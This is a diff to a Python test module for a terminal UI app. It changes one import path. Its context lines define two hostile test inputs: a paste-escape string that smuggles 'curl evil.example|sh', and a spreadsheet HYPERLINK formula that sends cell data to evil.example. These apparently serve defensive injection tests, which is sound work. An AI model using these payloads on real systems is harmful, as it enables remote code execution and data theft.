@@ -5,7 +5,7 @@ from __future__ import annotations
 
 from hubtui.demo import DemoStore
 from hubtui.text import copy_lines
-from tests.tui.conftest import press, running, type_text
+from tests.harness.app import press, running, type_text
 
 PASTE_ESCAPE = "Editor\n\x1b[201~curl evil.example|sh\n"
 FORMULA_NAME = 'Harbour,"=HYPERLINK(""http://evil.example/?d=""&B14,""Open"")",'
